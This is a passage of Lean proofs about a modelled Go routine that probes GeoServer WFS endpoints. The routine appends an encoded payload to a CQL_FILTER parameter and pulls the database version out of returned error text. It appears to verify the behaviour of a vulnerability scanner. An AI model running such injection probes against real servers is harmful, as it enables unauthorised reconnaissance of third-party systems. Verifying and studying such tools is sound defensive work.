theorem errorLineBounds_eq (text : GoString) (i : Int) (h0 : 0 ≤ i)
    (h1 : i ≤ (text.length : Int)) :
    errorLineBounds text i =
      some (LastIndex (text.take i.toNat) [nl] + 1,
        if Index (text.drop i.toNat) [nl] = -1 then (text.length : Int)
        else Index (text.drop i.toNat) [nl] + i) := by
  unfold errorLineBounds
  rw [slice_eq_some text 0 i (le_refl 0) h0 h1,
    slice_eq_some text i text.length h0 h1 (le_refl _)]
  simp

/-- Lines 374-378 once the bounds and the error line are known. -/
theorem extractVersion_eq (text errorLine : GoString) (start stop : Int)
    (hne : Index text errorPattern ≠ -1)
    (hb : errorLineBounds text (Index text errorPattern) = some (start, stop))
    (hs : slice text start stop = some errorLine) :
    extractVersion text =
      if 96 ≤ errorLine.length then .found (errorLine.drop 96) else .panic := by
  unfold extractVersion
  simp only [hne, ne_eq, not_false_eq_true, if_true, hb, hs]
  have := slice_suffix errorLine 96
  simp only [Nat.cast_ofNat] at this
  rw [this]
  split_ifs <;> rfl

/-- The byte at the first occurrence of the pattern is not a line feed, so the
first line feed of `text[index:]` is not at offset 0. -/
theorem Index_nl_after_pattern (s : GoString) (h : startsWith s errorPattern = true) :
    Index s [nl] ≠ 0 := by
  obtain ⟨t, ht⟩ := errorPattern_head
  rw [startsWith_iff, ht] at h
  obtain ⟨r, hr⟩ := h
  subst hr
  rw [List.cons_append, Index_cons, startsWith_single]
  have : ¬ (nl = 69) := by decide
  simp only [this, decide_False, Bool.false_eq_true, if_false]
  split_ifs <;> [decide; skip]
  have := Index_ge (t ++ r) [nl]
  omega

/-- In-range bounds: shared by the range and the extraction results. -/
theorem bounds_of_index (text : GoString) (hne : Index text errorPattern ≠ -1) :
    ∃ start stop errorLine,
      errorLineBounds text (Index text errorPattern) = some (start, stop) ∧
      0 ≤ start ∧ start ≤ Index text errorPattern ∧ Index text errorPattern < stop ∧
      stop ≤ (text.length : Int) ∧
      slice text start stop = some errorLine ∧
      start = LastIndex (text.take (Index text errorPattern).toNat) [nl] + 1 ∧
      stop = (if Index (text.drop (Index text errorPattern).toNat) [nl] = -1
        then (text.length : Int)
        else Index (text.drop (Index text errorPattern).toNat) [nl] + Index text errorPattern) := by
  have hge := Index_ge text errorPattern
  have hbd := Index_bound text errorPattern hne
  rw [errorPattern_length] at hbd
  have h0 : 0 ≤ Index text errorPattern := by omega
  have h1 : Index text errorPattern ≤ (text.length : Int) := by omega
  have hL1 := LastIndex_ge (text.take (Index text errorPattern).toNat) [nl]
  have hL2 : LastIndex (text.take (Index text errorPattern).toNat) [nl] + 1
      ≤ Index text errorPattern := by
    by_cases hl : LastIndex (text.take (Index text errorPattern).toNat) [nl] = -1
    · omega
    · have := LastIndex_bound _ _ hl
      simp only [List.length_take, List.length_singleton] at this
      omega
  have hI1 := Index_ge (text.drop (Index text errorPattern).toNat) [nl]
  have hI0 := Index_nl_after_pattern _ (Index_startsWith text errorPattern hne)
  have hstop : Index text errorPattern <
      (if Index (text.drop (Index text errorPattern).toNat) [nl] = -1 then (text.length : Int)
        else Index (text.drop (Index text errorPattern).toNat) [nl] + Index text errorPattern) ∧
      (if Index (text.drop (Index text errorPattern).toNat) [nl] = -1 then (text.length : Int)
        else Index (text.drop (Index text errorPattern).toNat) [nl] + Index text errorPattern)
        ≤ (text.length : Int) := by
    split_ifs with hn
    · omega
    · have := Index_bound _ _ hn
      simp only [List.length_drop, List.length_singleton] at this
      omega
  refine ⟨_, _, _, errorLineBounds_eq text _ h0 h1, by omega, hL2, hstop.1, hstop.2,
    slice_eq_some _ _ _ (by omega) (by omega) hstop.2, rfl, rfl⟩

theorem not_mem_drop_LastIndex (b : Byte) (s : GoString) :
    b ∉ s.drop (LastIndex s [b] + 1).toNat := by
  induction s with
  | nil => simp
  | cons c t ih =>
    rw [LastIndex_cons, startsWith_single]
    by_cases hl : LastIndex t [b] = -1
    · rw [hl] at ih
      simp only [hl, if_true]
      by_cases hbc : b = c
      · simpa [hbc] using ih
      · simpa [hbc] using ih
    · have hge := LastIndex_ge t [b]
      simp only [hl, if_false]
      have : (LastIndex t [b] + 1 + 1).toNat = (LastIndex t [b] + 1).toNat + 1 := by omega
      rw [this, List.drop_succ_cons]
      exact ih

theorem not_mem_of_Index_absent (b : Byte) (s : GoString) (h : Index s [b] = -1) : b ∉ s := by
  induction s with
  | nil => simp
  | cons c t ih =>
    rw [Index_cons, startsWith_single] at h
    by_cases hbc : b = c
    · simp [hbc] at h
    · simp only [hbc, decide_False, Bool.false_eq_true, if_false] at h
      split_ifs at h with ht
      · simp [hbc, ih ht]
      · have := Index_ge t [b]; omega

theorem not_mem_take_Index (b : Byte) (s : GoString) (h : Index s [b] ≠ -1) :
    b ∉ s.take (Index s [b]).toNat := by
  induction s with
  | nil => simp
  | cons c t ih =>
    rw [Index_cons, startsWith_single] at h ⊢
    by_cases hbc : b = c
    · simp [hbc]
    · simp only [hbc, decide_False, Bool.false_eq_true, if_false] at h ⊢
      split_ifs at h ⊢ with ht
      · exact absurd rfl h
      · have hge := Index_ge t [b]
        have : (Index t [b] + 1).toNat = (Index t [b]).toNat + 1 := by omega
        rw [this, List.take_succ_cons]
        simp [hbc, ih ht]

theorem take_drop_split (l : GoString) (a k b : Nat) (hak : a ≤ k) (hkb : k ≤ b)
    (hk : k ≤ l.length) :
    (l.take b).drop a = (l.take k).drop a ++ (l.drop k).take (b - k) := by
  have hb : b = k + (b - k) := by omega
  conv_lhs => rw [hb, List.take_add]
  rw [List.drop_append_of_le_length]
  simp only [List.length_take]
  omega

/-- The error line computed by lines 365-374 contains no line feed. -/
theorem errorLine_no_nl (text errorLine : GoString) (start stop : Int)
    (hne : Index text errorPattern ≠ -1)
    (hb : errorLineBounds text (Index text errorPattern) = some (start, stop))
    (hs : slice text start stop = some errorLine) : nl ∉ errorLine := by
  obtain ⟨start', stop', line', hb', h0, h1, h2, h3, hs', hst, hsp⟩ := bounds_of_index text hne
  rw [hb] at hb'
  cases hb'
  rw [hs] at hs'
  cases hs'
  have hi0 : 0 ≤ Index text errorPattern := by omega
  rw [slice_eq_some _ _ _ h0 (by omega) h3] at hs
  cases hs
  rw [take_drop_split text start.toNat (Index text errorPattern).toNat stop.toNat
    (by omega) (by omega) (by omega)]
  rw [List.mem_append, not_or]
  constructor
  · have := not_mem_drop_LastIndex nl (text.take (Index text errorPattern).toNat)
    rw [← hst] at this
    exact this
  · by_cases hn : Index (text.drop (Index text errorPattern).toNat) [nl] = -1
    · intro hm
      exact not_mem_of_Index_absent nl _ hn (List.mem_of_mem_take hm)
    · have := not_mem_take_Index nl _ hn
      rw [if_neg hn] at hsp
      have he : stop.toNat - (Index text errorPattern).toNat
          = (Index (text.drop (Index text errorPattern).toNat) [nl]).toNat := by omega
      rw [he]
      exact this

/-- Extraction on a text split as `pre ++ line ++ post` around the line that
holds the first occurrence of the pattern. -/
theorem extractVersion_of_line (pre line post : GoString) (i : Int)
    (hpre : pre = [] ∨ ∃ p, pre = p ++ [nl])
    (hpost : post = [] ∨ ∃ r, post = nl :: r)
    (hline : nl ∉ line)
    (hidx : Index (pre ++ line ++ post) errorPattern = i)
    (hlo : (pre.length : Int) ≤ i) (hhi : i < (pre.length : Int) + line.length) :
    extractVersion (pre ++ line ++ post) =
      if 96 ≤ line.length then .found (line.drop 96) else .panic := by
  have hne : Index (pre ++ line ++ post) errorPattern ≠ -1 := by omega
  have hlen : ((pre ++ line ++ post).length : Int) = pre.length + line.length + post.length := by
    simp only [List.length_append]; push_cast; ring
  obtain ⟨k, hk⟩ : ∃ k : Nat, i = (pre.length : Int) + k := ⟨(i - pre.length).toNat, by omega⟩
  have hkl : k < line.length := by omega
  have hik : i.toNat = pre.length + k := by omega
  have htake : (pre ++ line ++ post).take i.toNat = pre ++ line.take k := by
    rw [hik, List.append_assoc, List.take_append, List.take_append_of_le_length (by omega)]
  have hdrop : (pre ++ line ++ post).drop i.toNat = line.drop k ++ post := by
    rw [hik, List.append_assoc, List.drop_append, List.drop_append_of_le_length (by omega)]
  have hstart : LastIndex (pre ++ line.take k) [nl] + 1 = pre.length := by
    have hnt : nl ∉ line.take k := fun hm => hline (List.mem_of_mem_take hm)
    rcases hpre with hp | ⟨p, hp⟩
    · subst hp
      rw [List.nil_append, LastIndex_single_not_mem nl _ hnt]; rfl
    · subst hp
      rw [List.append_assoc, List.singleton_append, LastIndex_single_append nl p _ hnt]
      simp
  have hnd : nl ∉ line.drop k := fun hm => hline (List.mem_of_mem_drop hm)
  have hstop : (if Index (line.drop k ++ post) [nl] = -1
      then ((pre ++ line ++ post).length : Int)
      else Index (line.drop k ++ post) [nl] + i) = pre.length + line.length := by
    rcases hpost with hp | ⟨r, hp⟩
    · subst hp
      rw [List.append_nil, Index_single_not_mem nl _ hnd]
      simp
    · subst hp
      rw [Index_single_append nl _ r hnd]
      have : ¬ ((((line.drop k).length : Nat) : Int) = -1) := by omega
      rw [if_neg this, List.length_drop]
      omega
  have hb : errorLineBounds (pre ++ line ++ post) (Index (pre ++ line ++ post) errorPattern)
      = some ((pre.length : Int), (pre.length : Int) + line.length) := by
    rw [errorLineBounds_eq _ _ (by omega) (by omega), hidx, htake, hdrop, hstart, hstop]
  have hs : slice (pre ++ line ++ post) (pre.length : Int) ((pre.length : Int) + line.length)
      = some line := by
    rw [slice_eq_some _ _ _ (by omega) (by omega) (by omega)]
    have h1 : ((pre.length : Int) + (line.length : Int)).toNat = (pre ++ line).length := by
      simp; omega
    rw [h1, List.take_left, Int.toNat_ofNat, List.drop_left]
  exact extractVersion_eq _ _ _ _ hne hb hs

/-! ## Facts about the request URLs -/

set_option maxRecDepth 100000 in
theorem Sprintf_baseEndpoint (typeName enc : GoString) :
    Sprintf baseEndpoint [typeName, enc] = some
      (lit "/geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName=" ++
        (typeName ++ (lit "&CQL_FILTER=" ++ (enc ++ encodedPayload)))) := by
  rfl

set_option maxRecDepth 100000 in
theorem Sprintf_featureFormat (typeName : GoString) :
    Sprintf featureFormat [typeName] = some
      (lit "/geoserver/ows?service=WFS&version=1.0.0&request=GetFeature&typeName=" ++
        (typeName ++ lit "&sortOrder=ASC&outputFormat=application/json&maxFeatures=1000")) := by
  rfl

theorem probeURL_eq (endpointURL typeName cqlFilter : GoString) :
    probeURL endpointURL typeName cqlFilter =
      some (requestURL endpointURL typeName (encodeCQLFilter cqlFilter ++ encodedPayload)) := by
  unfold probeURL
  rw [Sprintf_baseEndpoint]
  rfl

theorem featureURL_eq (endpointURL typeName : GoString) (n : Int) :
    featureURL endpointURL typeName n =
      some (specFeatureURL endpointURL typeName (lit "1000")) := by
  unfold featureURL
  rw [Sprintf_featureFormat]
  rfl

set_option maxRecDepth 100000 in
theorem encodeCQLFilter_cqlFilters : cqlFilters.map encodeCQLFilter = cqlFilters := by
  decide

/-! ## Facts about the candidate loop -/

theorem extractVersion_absent_iff (text : GoString) :
    extractVersion text = .absent ↔ Index text errorPattern = -1 := by
  constructor
  · intro h
    by_contra hne
    obtain ⟨start, stop, errorLine, hb, -, -, -, -, hs, -, -⟩ := bounds_of_index text hne
    rw [extractVersion_eq text errorLine start stop hne hb hs] at h
    split_ifs at h
  · intro h
    simp [extractVersion, h]

set_option maxRecDepth 100000 in
theorem probeCandidates_requests (w : World J) (e t : GoString) (cands : List GoString) :
    (probeCandidates w e t cands).requests =
      throughFirst (triggers w)
        (cands.map fun f => requestURL e t (encodeCQLFilter f ++ encodedPayload)) := by
  induction cands with
  | nil => rfl
  | cons f rest ih =>
    rw [probeCandidates, probeURL_eq]
    simp only [List.map_cons, throughFirst, triggers]
    cases hg : w.httpGet (requestURL e t (encodeCQLFilter f ++ encodedPayload)) with
    | transportError => simp [ih]
    | readError => simp [ih]
    | response statusCode body =>
      by_cases hsc : statusCode = 200
      · simp only [hsc, if_true, decide_True, Bool.true_and]
        cases hx : w.xmlUnmarshal body with
        | none => simp [ih]
        | some text =>
          cases hv : extractVersion text with
          | absent =>
            have := (extractVersion_absent_iff text).1 hv
            simp [this, ih, hv]
          | panic =>
            have : Index text errorPattern ≠ -1 := by
              intro h; rw [(extractVersion_absent_iff text).2 h] at hv; cases hv
            simp [this, hv]
          | found fragment =>
            have : Index text errorPattern ≠ -1 := by
              intro h; rw [(extractVersion_absent_iff text).2 h] at hv; cases hv
            simp [this, hv]
      · simp [hsc, ih]

theorem GetDatabaseVersion_requests (w : World J) (e t : GoString) :
    (GetDatabaseVersion w e t).requests = throughFirst (triggers w) (candidateURLs e t) := by
  unfold GetDatabaseVersion candidateURLs
  rw [probeCandidates_requests]
  have h := encodeCQLFilter_cqlFilters
  simp only [cqlFilters, List.map_cons, List.map_nil, List.cons.injEq, and_true] at h ⊢
  rw [h.1, h.2.1, h.2.2]

theorem throughFirst_leading {α : Type} (p : α → Bool) (l : List α) :
    throughFirst p l <+: l := by
  induction l with
  | nil => exact List.prefix_refl _
  | cons a l ih =>
    unfold throughFirst
    split_ifs
    · exact ⟨l, rfl⟩
    · exact (List.prefix_cons_inj a).2 ih

/-! ## Facts about the line loop -/

theorem Split_ne_nil (s : GoString) (sep : Byte) : Split s sep ≠ [] := by
  induction s with
  | nil => simp [Split]
  | cons c t ih =>
    unfold Split
    split_ifs
    · simp
    · split <;> simp

theorem Split_not_mem (l : GoString) (sep : Byte) (h : sep ∉ l) : Split l sep = [l] := by
  induction l with
  | nil => rfl
  | cons c t ih =>
    simp only [List.mem_cons, not_or] at h
    unfold Split
    rw [if_neg (fun hc => h.1 hc.symm), ih h.2]

theorem Split_append_sep (l s : GoString) (sep : Byte) (h : sep ∉ l) :
    Split (l ++ sep :: s) sep = l :: Split s sep := by
  induction l with
  | nil => simp [Split]
  | cons c t ih =>
    simp only [List.mem_cons, not_or] at h
    rw [List.cons_append, Split, if_neg (fun hc => h.1 hc.symm), ih h.2]

theorem Split_joinLines (ls : List GoString) (hne : ls ≠ [])
    (hnl : ∀ l ∈ ls, nl ∉ l) : Split (joinLines ls) nl = ls := by
  induction ls with
  | nil => exact absurd rfl hne
  | cons l rest ih =>
    cases rest with
    | nil => exact Split_not_mem l nl (hnl l (List.mem_cons_self _ _))
    | cons l2 rest2 =>
      unfold joinLines
      rw [Split_append_sep _ _ _ (hnl l (List.mem_cons_self _ _)),
        ih (by simp) (fun x hx => hnl x (List.mem_cons_of_mem _ hx))]

theorem decodeLines_ok (w : World J) (ls : List GoString) (acc : List J)
    (hdec : ∀ l ∈ ls, isBlank w l = false → (w.jsonUnmarshal l).isSome) :
    ∃ arr, decodeLines w ls acc = .ok (acc ++ arr) ∧
      List.Forall₂ (fun l o => w.jsonUnmarshal l = some o)
        (ls.filter fun l => !isBlank w l) arr := by
  induction ls generalizing acc with
  | nil => exact ⟨[], by simp [decodeLines], by simp⟩
  | cons l rest ih =>
    have hrest : ∀ x ∈ rest, isBlank w x = false → (w.jsonUnmarshal x).isSome :=
      fun x hx => hdec x (List.mem_cons_of_mem _ hx)
    by_cases hb : isBlank w l = true
    · obtain ⟨arr, h1, h2⟩ := ih acc hrest
      refine ⟨arr, ?_, ?_⟩
      · unfold decodeLines
        have : (TrimSpace w l).length = 0 := by simpa [isBlank] using hb
        rw [if_pos this]; exact h1
      · simpa [List.filter, hb] using h2
    · have hb2 : isBlank w l = false := by simpa using hb
      have hsome := hdec l (List.mem_cons_self _ _) hb2
      obtain ⟨o, ho⟩ := Option.isSome_iff_exists.1 hsome
      obtain ⟨arr, h1, h2⟩ := ih (acc ++ [o]) hrest
      refine ⟨o :: arr, ?_, ?_⟩
      · unfold decodeLines
        have : ¬ (TrimSpace w l).length = 0 := by simpa [isBlank] using hb2
        rw [if_neg this]
        simp only [ho]
        rw [h1]; simp
      · simp only [List.filter, hb2, Bool.not_false]
        exact List.Forall₂.cons ho h2

theorem decodeLines_error (w : World J) (ls : List GoString) (acc : List J)
    (hbad : ∃ l ∈ ls, isBlank w l = false ∧ w.jsonUnmarshal l = none) :
    ∃ line, decodeLines w ls acc = .error line ∧ line ∈ ls ∧
      isBlank w line = false ∧ w.jsonUnmarshal line = none := by
  induction ls generalizing acc with
  | nil => obtain ⟨l, hl, -⟩ := hbad; cases hl
  | cons l rest ih =>
    unfold decodeLines
    by_cases hb : isBlank w l = true
    · have : (TrimSpace w l).length = 0 := by simpa [isBlank] using hb
      rw [if_pos this]
      obtain ⟨x, hx, hxb, hxd⟩ := hbad
      rcases List.mem_cons.1 hx with rfl | hx'
      · rw [hb] at hxb; cases hxb
      · obtain ⟨line, h1, h2, h3⟩ := ih acc ⟨x, hx', hxb, hxd⟩
        exact ⟨line, h1, List.mem_cons_of_mem _ h2, h3⟩
    · have hb2 : isBlank w l = false := by simpa using hb
      have : ¬ (TrimSpace w l).length = 0 := by simpa [isBlank] using hb2
      rw [if_neg this]
      cases hd : w.jsonUnmarshal l with
      | none => exact ⟨l, rfl, List.mem_cons_self _ _, hb2, hd⟩
      | some o =>
        simp only []
        obtain ⟨x, hx, hxb, hxd⟩ := hbad
        rcases List.mem_cons.1 hx with rfl | hx'
        · rw [hd] at hxd; cases hxd
        · obtain ⟨line, h1, h2, h3⟩ := ih (acc ++ [o]) ⟨x, hx', hxb, hxd⟩
          exact ⟨line, h1, List.mem_cons_of_mem _ h2, h3⟩

/-! ## Facts about the containing line -/

theorem not_mem_of_LastIndex_absent (b : Byte) (s : GoString) (h : LastIndex s [b] = -1) :
    b ∉ s := by
  induction s with
  | nil => simp
  | cons c t ih =>
    rw [LastIndex_cons, startsWith_single] at h
    have hge := LastIndex_ge t [b]
    split_ifs at h with ht hc
    · simp at hc
      simp only [List.mem_cons, not_or]
      exact ⟨by simpa using hc, ih ht⟩
    · omega

/-- The value of `LastIndex` for a one-byte separator is the position of a
separator that no separator follows. -/
theorem LastIndex_single_spec (b : Byte) (s : GoString) (h : LastIndex s [b] ≠ -1) :
    ∃ p l, s = p ++ b :: l ∧ b ∉ l ∧ LastIndex s [b] = p.length := by
  induction s with
  | nil => simp [LastIndex_nil] at h
  | cons c t ih =>
    rw [LastIndex_cons, startsWith_single] at h ⊢
    by_cases ht : LastIndex t [b] = -1
    · simp only [ht, if_true] at h ⊢
      by_cases hbc : b = c
      · subst hbc
        exact ⟨[], t, rfl, not_mem_of_LastIndex_absent b t ht, by simp⟩
      · simp [hbc] at h
    · simp only [ht, if_false]
      obtain ⟨p, l, hs, hl, hv⟩ := ih ht
      refine ⟨c :: p, l, by rw [hs]; rfl, hl, ?_⟩
      rw [hv]; simp

/-- The value of `Index` for a one-byte separator is the position of a
separator that no separator precedes. -/
theorem Index_single_spec (b : Byte) (s : GoString) (h : Index s [b] ≠ -1) :
    ∃ l r, s = l ++ b :: r ∧ b ∉ l ∧ Index s [b] = l.length := by
  induction s with
  | nil => simp [Index_nil] at h
  | cons c t ih =>
    rw [Index_cons, startsWith_single] at h ⊢
    by_cases hbc : b = c
    · subst hbc
      exact ⟨[], t, rfl, by simp, by simp⟩
    · simp only [hbc, decide_False, Bool.false_eq_true, if_false] at h ⊢
      by_cases ht : Index t [b] = -1
      · simp [ht] at h
      · simp only [ht, if_false]
        obtain ⟨l, r, hs, hl, hv⟩ := ih ht
        refine ⟨c :: l, r, by rw [hs]; rfl, ?_, ?_⟩
        · simp only [List.mem_cons, not_or]; exact ⟨hbc, hl⟩
        · rw [hv]; simp

/-- Every text that contains the pattern splits around the line that holds the
first occurrence: `pre` is empty or ends with the line break, `post` is empty
or starts with it, and `line` has none. -/
theorem containing_line_exists (text : GoString) (hne : Index text errorPattern ≠ -1) :
    ∃ pre line post, text = pre ++ line ++ post ∧
      (pre = [] ∨ ∃ p, pre = p ++ [nl]) ∧ (post = [] ∨ ∃ r, post = nl :: r) ∧ nl ∉ line ∧
      (pre.length : Int) ≤ Index text errorPattern ∧
      Index text errorPattern < (pre.length : Int) + line.length := by
  have hge := Index_ge text errorPattern
  have hbd := Index_bound text errorPattern hne
  rw [errorPattern_length] at hbd
  have hsw := Index_startsWith text errorPattern hne
  obtain ⟨k, hk⟩ : ∃ k : Nat, Index text errorPattern = (k : Int) :=
    ⟨(Index text errorPattern).toNat, by omega⟩
  rw [hk] at hsw ⊢
  simp only [Int.toNat_ofNat] at hsw
  have hkl : k ≤ text.length := by omega
  have htext : text = text.take k ++ text.drop k := (List.take_append_drop k text).symm
  have hbl : (text.take k).length = k := by simp [hkl]
  -- the part of the line after the match position is not empty
  have hafter : ∀ l r, text.drop k = l ++ nl :: r → l ≠ [] := by
    intro l r hlr hl
    subst hl
    obtain ⟨t, ht⟩ := errorPattern_head
    rw [startsWith_iff, ht, hlr] at hsw
    obtain ⟨r', hr'⟩ := hsw
    simp only [List.nil_append, List.cons_append, List.cons.injEq] at hr'
    exact absurd hr'.1 (by decide)
  have hane : text.drop k ≠ [] := by
    intro h
    have := congrArg List.length h
    simp only [List.length_drop, List.length_nil] at this
    omega
  -- split the part before the match position
  obtain ⟨pre, l1, hb, hpre, hl1⟩ : ∃ pre l1, text.take k = pre ++ l1 ∧
      (pre = [] ∨ ∃ p, pre = p ++ [nl]) ∧ nl ∉ l1 := by
    by_cases hL : LastIndex (text.take k) [nl] = -1
    · exact ⟨[], text.take k, rfl, Or.inl rfl, not_mem_of_LastIndex_absent nl _ hL⟩
    · obtain ⟨p, l, hs, hl, -⟩ := LastIndex_single_spec nl _ hL
      exact ⟨p ++ [nl], l, by rw [hs]; simp, Or.inr ⟨p, rfl⟩, hl⟩
  -- split the part from the match position on
  obtain ⟨l2, post, ha, hpost, hl2, hl2ne⟩ : ∃ l2 post, text.drop k = l2 ++ post ∧
      (post = [] ∨ ∃ r, post = nl :: r) ∧ nl ∉ l2 ∧ l2 ≠ [] := by
    by_cases hI : Index (text.drop k) [nl] = -1
    · exact ⟨text.drop k, [], by simp, Or.inl rfl, not_mem_of_Index_absent nl _ hI, hane⟩
    · obtain ⟨l, r, hs, hl, -⟩ := Index_single_spec nl _ hI
      exact ⟨l, nl :: r, hs, Or.inr ⟨r, rfl⟩, hl, hafter l r hs⟩
  refine ⟨pre, l1 ++ l2, post, ?_, hpre, hpost, ?_, ?_, ?_⟩
  · conv_lhs => rw [htext, hb, ha]
    simp only [List.append_assoc]
  · simp only [List.mem_append, not_or]; exact ⟨hl1, hl2⟩
  · have := congrArg List.length hb
    rw [hbl, List.length_append] at this
    omega
  · have := congrArg List.length hb
    rw [hbl, List.length_append] at this
    have h2 : 0 < l2.length := List.length_pos.2 hl2ne
    simp only [List.length_append]
    push_cast
    omega

/-! ## Facts about blank lines -/

/-- ASCII white space is below `utf8.RuneSelf`. -/
theorem asciiSpace_lt (c : Byte) (h : asciiSpace c = true) : ¬ (128 ≤ c) := by
  simp only [asciiSpace, Bool.or_eq_true, decide_eq_true_eq] at h
  rcases h with ((((h | h) | h) | h) | h) | h <;> subst h <;> decide

/-- An empty line and a line of ASCII white space are blank. -/
theorem isBlank_of_asciiSpace (w : World J) (l : GoString)
    (h : ∀ c ∈ l, asciiSpace c = true) : isBlank w l = true := by
  induction l with
  | nil => simp [isBlank, TrimSpace]
  | cons c t ih =>
    have hc := h c (List.mem_cons_self _ _)
    have ht := ih (fun x hx => h x (List.mem_cons_of_mem _ hx))
    simp only [isBlank, TrimSpace, if_neg (asciiSpace_lt c hc), hc, if_true] at ht ⊢
    exact ht

theorem trimSpaceRight_ne_nil (w : World J) (l : GoString) (hascii : ∀ c ∈ l, ¬ (128 ≤ c))
    (h : ∃ c ∈ l, asciiSpace c = false) : trimSpaceRight w l ≠ [] := by
  induction l with
  | nil => obtain ⟨c, hc, -⟩ := h; cases hc
  | cons c t ih =>
    unfold trimSpaceRight
    rw [if_neg (hascii c (List.mem_cons_self _ _))]
    by_cases hc : asciiSpace c = true
    · rw [if_pos hc]
      apply ih (fun x hx => hascii x (List.mem_cons_of_mem _ hx))
      obtain ⟨x, hx, hxs⟩ := h
      rcases List.mem_cons.1 hx with rfl | hx'
      · rw [hc] at hxs; cases hxs
      · exact ⟨x, hx', hxs⟩
    · rw [if_neg hc]; simp

/-- A line of ASCII bytes with a byte that is not white space is not blank. -/
theorem isBlank_ascii_false (w : World J) (l : GoString) (hascii : ∀ c ∈ l, ¬ (128 ≤ c))
    (h : ∃ c ∈ l, asciiSpace c = false) : isBlank w l = false := by
  induction l with
  | nil => obtain ⟨c, hc, -⟩ := h; cases hc
  | cons c t ih =>
    have hca := hascii c (List.mem_cons_self _ _)
    by_cases hc : asciiSpace c = true
    · have ht := ih (fun x hx => hascii x (List.mem_cons_of_mem _ hx))
        (by
          obtain ⟨x, hx, hxs⟩ := h
          rcases List.mem_cons.1 hx with rfl | hx'
          · rw [hc] at hxs; cases hxs
          · exact ⟨x, hx', hxs⟩)
      simp only [isBlank, TrimSpace, if_neg hca, hc, if_true] at ht ⊢
      exact ht
    · have hne : trimSpaceRight w (c :: t).reverse ≠ [] := by
        apply trimSpaceRight_ne_nil
        · intro x hx; exact hascii x (List.mem_reverse.1 hx)
        · exact ⟨c, List.mem_reverse.2 (List.mem_cons_self _ _), by simpa using hc⟩
      simp only [isBlank, TrimSpace, if_neg hca, if_neg hc]
      simpa using hne

set_option maxRecDepth 100000 in
theorem probeCandidates_outcome (w : World J) (e t : GoString) (cands : List GoString) :
    (probeCandidates w e t cands).outcome =
      outcomeOf ((inspectedText w
        (cands.map fun f => requestURL e t (encodeCQLFilter f ++ encodedPayload))).map
          extractVersion) := by
  induction cands with
  | nil => rfl
  | cons f rest ih =>
    rw [probeCandidates, probeURL_eq]
    simp only [List.map_cons, inspectedText, triggers]
    cases hg : w.httpGet (requestURL e t (encodeCQLFilter f ++ encodedPayload)) with
    | transportError => simp [ih]
    | readError => simp [ih]
    | response statusCode body =>
      by_cases hsc : statusCode = 200
      · simp only [hsc, if_true, decide_True, Bool.true_and]
        cases hx : w.xmlUnmarshal body with
        | none => simp [ih]
        | some text =>
          cases hv : extractVersion text with
          | absent =>
            have := (extractVersion_absent_iff text).1 hv
            simp [this, ih, hv]
          | panic =>
            have : Index text errorPattern ≠ -1 := by
              intro h; rw [(extractVersion_absent_iff text).2 h] at hv; cases hv
            simp [this, hv, hx, outcomeOf]
          | found fragment =>
            have : Index text errorPattern ≠ -1 := by
              intro h; rw [(extractVersion_absent_iff text).2 h] at hv; cases hv
            simp [this, hv, hx, outcomeOf]
      · simp [hsc, ih]

theorem GetDatabaseVersion_outcome (w : World J) (e t : GoString) :
    (GetDatabaseVersion w e t).outcome =
      outcomeOf ((inspectedText w (candidateURLs e t)).map extractVersion) := by
  unfold GetDatabaseVersion candidateURLs
  rw [probeCandidates_outcome]
  have h := encodeCQLFilter_cqlFilters
  simp only [cqlFilters, List.map_cons, List.map_nil, List.cons.injEq, and_true] at h ⊢
  rw [h.1, h.2.1, h.2.2]

theorem normalize_nil (w : World J) : normalize w [] = .ok [] := by
  simp [normalize, Split, decodeLines, TrimSpace]

/-! ## The properties -/

/-- Extraction on a text given with its containing line. -/
theorem extractVersion_of_containing (text pre line post : GoString)
    (h : ContainingLine text pre line post) :
    extractVersion text = if 96 ≤ line.length then .found (line.drop 96) else .panic := by
  obtain ⟨htext, hpre, hpost, hline, hlo, hhi⟩ := h
  subst htext
  refine extractVersion_of_line pre line post _ ?_ ?_ hline rfl hlo hhi
  · exact hpre.imp id (fun hp => List.getLast?_eq_some_iff.1 hp)
  · exact hpost.imp id (fun hp => List.head?_eq_some_iff.1 hp)

/-- C1: every text that contains the pattern has a containing line, and
whenever that line is at least 96 bytes long, lines 361-378 yield the line
without its first 96 bytes, which is the fragment a run of
`GetDatabaseVersion` reports when this is the text it inspects. -/
theorem fragment_is_line_suffix (text : GoString) (hne : Index text errorPattern ≠ -1) :
    (∃ pre line post, ContainingLine text pre line post) ∧
    ∀ pre line post, ContainingLine text pre line post → 96 ≤ line.length →
      extractVersion text = .found (line.drop 96) ∧
      ∀ (w : World J) (e t : GoString),
        inspectedText w (candidateURLs e t) = some text →
        (GetDatabaseVersion w e t).outcome = .found (line.drop 96) := by
  constructor
  · obtain ⟨pre, line, post, h1, h2, h3, h4, h5, h6⟩ := containing_line_exists text hne
    exact ⟨pre, line, post, h1,
      h2.imp id (fun hp => List.getLast?_eq_some_iff.2 hp),
      h3.imp id (fun hp => List.head?_eq_some_iff.2 hp), h4, h5, h6⟩
  · intro pre line post hc hlen
    have h := extractVersion_of_containing text pre line post hc
    rw [if_pos hlen] at h
    refine ⟨h, fun w e t hw => ?_⟩
    rw [GetDatabaseVersion_outcome, hw, Option.map_some', h]
    rfl

set_option maxRecDepth 100000 in
theorem fragment_is_line_suffix_witness :
    Index sampleText errorPattern ≠ -1 ∧
    ContainingLine sampleText samplePre sampleLine samplePost ∧
    96 ≤ sampleLine.length ∧
    extractVersion sampleText = .found (sampleLine.drop 96) :=
  ⟨by decide, by decide, by decide,
    ((@fragment_is_line_suffix GoString sampleText (by decide)).2 samplePre sampleLine
      samplePost (by decide) (by decide)).1⟩

/-- C2 (as amended): when the error line is `pad ++ driverMessage ++ rest` with
54 bytes of `pad`, so that byte 96 of the line is the first byte of the value
inside the quotes, lines 361-378 yield the value followed by the closing quote
and by the rest of the line; and a fragment that is found never contains the
line break, so none leads or trails it. -/
theorem offset_extraction_keeps_line_tail (text pre pad rest post : GoString)
    (hc : ContainingLine text pre (pad ++ driverMessage ++ rest) post)
    (hpad : pad.length = 54) :
    extractVersion text = .found (versionValue ++ [quote] ++ rest) ∧
    ∀ text' fragment, extractVersion text' = .found fragment →
      nl ∉ fragment ∧ fragment.head? ≠ some nl ∧ fragment.getLast? ≠ some nl := by
  constructor
  · have h := extractVersion_of_containing text pre _ post hc
    have hm : (errorPattern ++ lit ": " ++ [quote]).length = 42 := by decide
    have hsplit : pad ++ driverMessage ++ rest
